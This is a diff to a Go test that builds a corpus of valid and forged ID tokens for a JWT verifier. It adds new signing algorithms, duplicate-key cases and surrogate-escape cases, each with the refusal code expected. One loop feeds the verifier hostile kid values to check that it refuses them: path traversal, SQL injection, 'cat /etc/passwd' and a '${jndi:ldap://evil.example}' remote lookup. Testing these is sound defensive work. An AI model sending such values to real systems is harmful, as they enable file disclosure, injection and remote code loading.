@@ -47,6 +47,7 @@ type maker struct {
 	rsaOther *rsa.PrivateKey
 	ecKey    *ecdsa.PrivateKey
 	ec384    *ecdsa.PrivateKey
+	ec521    *ecdsa.PrivateKey
 	edKey    ed25519.PrivateKey
 	class    string
 }
@@ -74,16 +75,19 @@ func TestMakeCorpus(t *testing.T) {
 		rsaOther: must(rsa.GenerateKey(rand.Reader, 2048)),
 		ecKey:    must(ecdsa.GenerateKey(elliptic.P256(), rand.Reader)),
 		ec384:    must(ecdsa.GenerateKey(elliptic.P384(), rand.Reader)),
+		ec521:    must(ecdsa.GenerateKey(elliptic.P521(), rand.Reader)),
 		edKey:    edKey,
 	}
 	m.c = &corpus{About: []string{
 		"ID tokens, valid ones and attacks, made for this project with the Go standard library.",
 		"A verifier is configured with each case's config (exact issuer, client id, nonce where there is one, hosted domain where there is one), its key set and the time now. Where config has no nonce, the nonce is not checked.",
 		"expect ok: the token must be accepted, and its subject be sub. Any other value is the code that Bonafides refuses with; other verifiers must refuse, for whatever reason.",
-		"Skew: none for exp, 60 seconds for iat and nbf. Limits: 16 KiB, 16 levels.",
+		"Skew, unless config has one: none for exp, 60 seconds for iat and nbf. Limits, unless config has one: 16 KiB, 16 levels.",
+		"Cases of class setting are judged with a setting that opens what is refused without it: authorizedParties, ignoreKeyHints, skew in seconds, tenants, verifyOnly (a token without nonce), match (a claim and the values it may have), maxSize in bytes.",
 	}, Now: corpusNow, KeySets: map[string]json.RawMessage{}}
 	m.keySets()
 	m.cases()
+	m.settings()
 	b, err := json.MarshalIndent(m.c, "", " ")
 	if err != nil {
 		t.Fatal(err)
@@ -114,11 +118,20 @@ func (m *maker) set(name string, keys ...string) {
 func (m *maker) keySets() {
 	rs, es, ed, e3 := m.rsaJWK(m.rsaKey, `,"kid":"rs","alg":"RS256","use":"sig"`), m.ecJWK(m.ecKey, `,"kid":"es","alg":"ES256","use":"sig"`),
 		m.edJWK(`,"kid":"ed","alg":"EdDSA","use":"sig"`), m.ecJWK(m.ec384, `,"kid":"es384"`)
-	m.set("all", rs, es, ed, e3)
+	m.set("all", rs, es, ed, e3, m.ecJWK(m.ec521, `,"kid":"es512"`))
 	m.set("plain", m.rsaJWK(m.rsaKey, `,"kid":"rs"`), m.ecJWK(m.ecKey, `,"kid":"es"`), m.edJWK(`,"kid":"ed"`))
 	m.set("one", m.rsaJWK(m.rsaKey, ``))
 	m.set("two rsa", rs, m.rsaJWK(m.rsaOther, `,"kid":"rs2"`))
 	m.set("same kid twice", rs, m.rsaJWK(m.rsaOther, `,"kid":"rs"`))
+	m.set("same kid twice, the other first", m.rsaJWK(m.rsaOther, `,"kid":"rs"`), rs)
+	m.set("same kid, none signs", m.rsaJWK(m.rsaOther, `,"kid":"rs"`), m.rsaJWK(must(rsa.GenerateKey(rand.Reader, 2048)), `,"kid":"rs"`))
+	others := []string{m.rsaJWK(m.rsaOther, `,"kid":"rs"`)}
+	for range 2 {
+		others = append(others, m.rsaJWK(must(rsa.GenerateKey(rand.Reader, 2048)), `,"kid":"rs"`))
+	}
+	m.set("same kid, the fourth signs", append(others, rs)...)
+	m.set("no kid, two keys", m.rsaJWK(m.rsaKey, ``), m.rsaJWK(m.rsaOther, ``))
+	m.set("a member twice", m.rsaJWK(m.rsaKey, `,"kid":"rs","use":"sig","use":"sig"`), es)
 	m.set("same kid, two kinds", m.ecJWK(m.ecKey, `,"kid":"rs"`), rs)
 	m.set("unknown kinds beside", `{"kty":"AKP","alg":"ML-DSA-44","kid":"rs","pub":"AA"}`, `{"kty":"oct","kid":"rs","k":"AAAA"}`, rs)
 	m.set("encryption", m.rsaJWK(m.rsaKey, `,"kid":"rs","use":"enc"`), m.ecJWK(m.ecKey, `,"kid":"es","use":"enc"`), m.edJWK(`,"kid":"ed","use":"enc"`))
@@ -147,13 +160,16 @@ func offCurve(k *ecdsa.PrivateKey) string {
 
 // sign returns the signature over input by a real key, as JWS wants it.
 func (m *maker) sign(alg, input string) []byte {
-	h256, h384 := sha256.Sum256([]byte(input)), sha512.Sum384([]byte(input))
+	h256, h384, h512 := sha256.Sum256([]byte(input)), sha512.Sum384([]byte(input)), sha512.Sum512([]byte(input))
+	pss := func(h crypto.Hash, digest []byte) []byte {
+		return must(rsa.SignPSS(rand.Reader, m.rsaKey, h, digest, &rsa.PSSOptions{SaltLength: h.Size()}))
+	}
 	raw := func(k *ecdsa.PrivateKey, digest []byte) []byte {
 		r, s, err := ecdsa.Sign(rand.Reader, k, digest)
 		if err != nil {
 			panic(err)
 		}
-		size := k.Params().BitSize / 8
+		size := (k.Params().BitSize + 7) / 8
 		out := make([]byte, 2*size)
 		r.FillBytes(out[:size])
 		s.FillBytes(out[size:])
@@ -162,21 +178,32 @@ func (m *maker) sign(alg, input string) []byte {
 	switch alg {
 	case "RS256":
 		return must(rsa.SignPKCS1v15(nil, m.rsaKey, crypto.SHA256, h256[:]))
+	case "RS384":
+		return must(rsa.SignPKCS1v15(nil, m.rsaKey, crypto.SHA384, h384[:]))
+	case "RS512":
+		return must(rsa.SignPKCS1v15(nil, m.rsaKey, crypto.SHA512, h512[:]))
 	case "PS256":
-		return must(rsa.SignPSS(rand.Reader, m.rsaKey, crypto.SHA256, h256[:], &rsa.PSSOptions{SaltLength: 32}))
+		return pss(crypto.SHA256, h256[:])
+	case "PS384":
+		return pss(crypto.SHA384, h384[:])
+	case "PS512":
+		return pss(crypto.SHA512, h512[:])
 	case "PS256 salt 20":
 		return must(rsa.SignPSS(rand.Reader, m.rsaKey, crypto.SHA256, h256[:], &rsa.PSSOptions{SaltLength: 20}))
 	case "ES256":
 		return raw(m.ecKey, h256[:])
 	case "ES384":
 		return raw(m.ec384, h384[:])
+	case "ES512":
+		return raw(m.ec521, h512[:])
 	case "EdDSA":
 		return ed25519.Sign(m.edKey, []byte(input))
 	}
 	panic(alg)
 }
 
-var kids = map[string]string{"RS256": "rs", "PS256": "rs", "ES256": "es", "ES384": "es384", "EdDSA": "ed"}
+var kids = map[string]string{"RS256": "rs", "RS384": "rs", "RS512": "rs", "PS256": "rs", "PS384": "rs", "PS512": "rs",
+	"ES256": "es", "ES384": "es384", "ES512": "es512", "EdDSA": "ed"}
 
 func header(alg string) string { return `{"alg":"` + alg + `","kid":"` + kids[alg] + `","typ":"JWT"}` }
 
@@ -238,9 +265,9 @@ func (m *maker) cases() {
 	signature := must(base64.RawURLEncoding.DecodeString(parts[2]))
 
 	m.class = "valid"
-	for _, alg := range []string{"RS256", "PS256", "ES256", "ES384", "EdDSA"} {
+	for _, alg := range []string{"RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "ES384", "ES512", "EdDSA"} {
 		keys := "all"
-		if alg == "PS256" {
+		if alg[1] == 'S' && alg[0] != 'E' && alg != "RS256" {
 			keys = "plain"
 		}
 		m.add(alg, keys, m.token(alg, header(alg), claims()), "ok")
@@ -279,7 +306,14 @@ func (m *maker) cases() {
 	}
 	m.add("signature stripped", "all", input+".", jws.CodeSignatureForm)
 	m.add("alg not allowed", "all", good, jws.CodeAlgNotAllowed, func(c *corpusConfig) { c.Algorithms = []string{"ES256"} })
-	m.add("RS256 token called RS512", "all", swapHeader(good, `{"alg":"RS512","kid":"rs"}`), jws.CodeAlgUnsupported)
+	m.add("RS256 token called RS512", "all", swapHeader(good, `{"alg":"RS512","kid":"rs"}`), jws.CodeKeyMismatch)
+	m.add("RS256 token called RS512, key without alg", "plain", swapHeader(good, `{"alg":"RS512","kid":"rs"}`), jws.CodeSignature)
+	m.add("PS384 with the salt of PS256", "plain", swapHeader(m.token("PS256", header("PS256"), claims()), header("PS384")), jws.CodeSignature)
+	m.add("ES512 with a key of P-256", "all", m.token("ES512", `{"alg":"ES512","kid":"es"}`, claims()), jws.CodeKeyMismatch)
+	m.add("ES512 token called ES256", "all", swapHeader(m.token("ES512", header("ES512"), claims()), `{"alg":"ES256","kid":"es512"}`), jws.CodeKeyMismatch)
+	m.head("alg ES256K", `{"alg":"ES256K","kid":"es"}`, jws.CodeAlgUnsupported)
+	m.head("alg ES521", `{"alg":"ES521","kid":"es512"}`, jws.CodeAlgUnsupported)
+	m.head("alg HS512", `{"alg":"HS512","kid":"es"}`, jws.CodeAlgUnsupported)
 	m.add("RS256 token called PS256", "plain", swapHeader(good, `{"alg":"PS256","kid":"rs"}`), jws.CodeSignature)
 	m.add("PS256 with a key for RS256", "all", m.token("PS256", header("PS256"), claims()), jws.CodeKeyMismatch)
 	m.add("PS256 with a salt of 20 bytes", "plain", m.token("PS256 salt 20", header("PS256"), claims()), jws.CodeSignature)
@@ -425,8 +459,21 @@ func (m *maker) cases() {
 	}
 	m.payload("sub with a lone byte", claims("sub", "\"user-1\xff\""), CodeClaims)
 	m.payload("a claim's name not UTF-8", claims("\xff", "1"), CodeClaims)
-	m.payload("lone surrogate escape", claims("name", `"\ud800"`), CodeClaims)
-	m.payload("surrogate escapes the wrong way round", claims("name", `"\udc00\ud800"`), CodeClaims)
+	m.payload("lone surrogate escape", claims("name", `"\ud800"`), "ok")
+	m.payload("surrogate escapes the wrong way round", claims("name", `"\udc00\ud800"`), "ok")
+	m.payload("lone surrogate escape in an address", claims("address", `{"locality":"x\ud83d"}`), "ok")
+	m.payload("lone surrogate escape and a good name", claims("given_name", `"\ud83d"`, "name", `"\ud83d\ude00"`), "ok")
+	for _, claim := range []string{"sub", "iss", "aud", "azp", "nonce", "at_hash", "sid", "hd", "groups", "email_verified"} {
+		value := map[string]string{"iss": `"` + theIssuer + `\ud83d"`, "sub": `"user-1\ud83d"`, "nonce": `"` + theNonce + `\udc00"`, "aud": `["client-1","\ud83d"]`}[claim]
+		if value == "" {
+			value = `"\ud83d"`
+		}
+		m.payload("lone surrogate escape in "+claim, claims(claim, value), CodeClaims)
+	}
+	m.payload("lone surrogate escape in a claim's name", claims("name\\ud83d", `"x"`), CodeClaims)
+	m.payload("lone surrogate escape in a name inside a claim", claims("address", `{"\ud83d":1}`), CodeClaims)
+	m.payload("lone surrogate escape in a name that is there twice", claims("name", `"\ud83d"`, "\\u006eame", `"x"`), CodeClaims)
+	m.head("lone surrogate escape in the header", `{"alg":"ES256","kid":"es","name":"\ud83d"}`, jws.CodeHeader)
 	m.head("header not UTF-8", "{\"alg\":\"ES256\",\"kid\":\"es\",\"x\":\"\xff\"}", jws.CodeHeader)
 	m.payload("UTF-16", string(utf16(claims())), CodeClaims)
 
@@ -519,7 +566,13 @@ func (m *maker) cases() {
 	for _, kid := range []string{"../../../../dev/null", "rs' UNION SELECT 'x", "rs; cat /etc/passwd", "https://evil.example/keys#rs", "rs\\u0000", "rs\\n", "__proto__", "${jndi:ldap://evil.example}"} {
 		m.add("injection "+kid, "all", m.token("RS256", `{"alg":"RS256","kid":"`+kid+`"}`, claims()), jws.CodeKeyUnknown)
 	}
-	m.add("twice in the set", "same kid twice", good, jws.CodeKeyAmbiguous)
+	m.add("twice in the set", "same kid twice", good, "ok")
+	m.add("twice in the set, the second signed", "same kid twice, the other first", good, "ok")
+	m.add("twice in the set, neither signed", "same kid, none signs", good, jws.CodeSignature)
+	m.add("four times in the set, the fourth signed", "same kid, the fourth signs", good, jws.CodeSignature)
+	m.add("missing, two keys without one", "no kid, two keys", m.token("RS256", `{"alg":"RS256"}`, claims()), jws.CodeKeyAmbiguous)
+	m.add("of a key with a member twice", "a member twice", good, jws.CodeKeyUnusable)
+	m.add("of a key beside one with a member twice", "a member twice", m.token("ES256", header("ES256"), claims()), "ok")
 	m.add("twice in the set, keys of two kinds", "same kid, two kinds", good, "ok")
 	m.add("no keys at all", "empty", good, jws.CodeKeyUnknown)
 
